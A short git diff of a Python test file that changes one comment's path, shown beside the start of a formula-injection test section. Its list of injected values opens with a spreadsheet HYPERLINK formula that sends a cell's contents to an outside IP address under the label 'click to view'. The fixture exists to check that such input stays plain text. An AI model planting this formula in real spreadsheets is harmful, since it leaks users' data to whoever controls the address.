@@ -642,7 +642,7 @@ def test_zip_check_runs_before_openpyxl(tmp_path: Path, monkeypatch: pytest.Monk
 
 
 # --- formula injection into the generated fill-in form ----------------------------------------
-# (the statistics table has its own: tests/test_stat_table.py::test_injected_text_stays_text)
+# (the statistics table has its own: tests/sheets/test_stat_table.py::test_injected_text_stays_text)
 
 INJECTED_UNITS = [
     '=HYPERLINK("http://10.255.255.1/?leak="&B5,"点击查看")',
